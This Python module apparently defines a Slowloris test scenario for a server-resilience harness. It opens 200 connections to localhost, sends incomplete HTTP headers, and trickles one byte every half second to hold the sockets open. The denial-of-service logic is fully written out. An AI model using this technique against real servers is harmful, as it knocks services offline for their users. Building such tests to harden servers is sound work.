"""Slowloris: heads of requests that arrive one byte at a time and never end."""

NAME = "slow-headers"
SECONDS = (5, 60)
CONNECTIONS = 200
EVERY_S = 0.5


def prepare(_server):
    return None


def attack(attacker, _):
    for _ in range(CONNECTIONS):
        connection = attacker.keep(attacker.connect(timeout_s=0.2))
        if connection:
            attacker.send(connection, b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
    while attacker.is_on():
        for connection in attacker.sockets:
            attacker.send(connection, b"x")
        attacker.rest(EVERY_S)
